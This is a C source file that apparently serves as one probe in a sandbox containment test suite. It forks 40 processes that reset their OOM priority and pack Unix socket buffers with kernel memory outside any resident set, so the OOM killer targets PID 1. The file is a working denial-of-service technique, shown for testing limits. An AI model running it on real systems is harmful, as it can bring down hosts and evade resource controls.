/* Small processes that fill socket buffers: kernel memory of nobody's resident set, so that PID 1 looks like the largest process.
   Each writes 0 over the oom_score_adj that it was given. 40 processes, 700 MiB at most. */
#include "attempt.h"
#include <fcntl.h>
#include <sys/socket.h>

static void fill_buffers(void) {
    static char block[65536];
    int adjust = open("/proc/self/oom_score_adj", O_WRONLY);
    if (adjust >= 0 && write(adjust, "0", 1) < 0) _exit(1);
    for (int pair = 0; pair < 80; pair++) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) break;
        while (send(ends[0], block, sizeof block, MSG_DONTWAIT) > 0) {}
    }
}

int main(void) {
    int full[2];
    char byte;
    if (pipe(full) != 0) return 1;
    for (int process = 0; process < 40; process++) {
        if (fork() == 0) {
            fill_buffers();
            close(full[1]);
            for (;;) pause();
        }
    }
    close(full[1]);
    if (read(full[0], &byte, 1) == 0) puts("allowed");
    return 0;
}
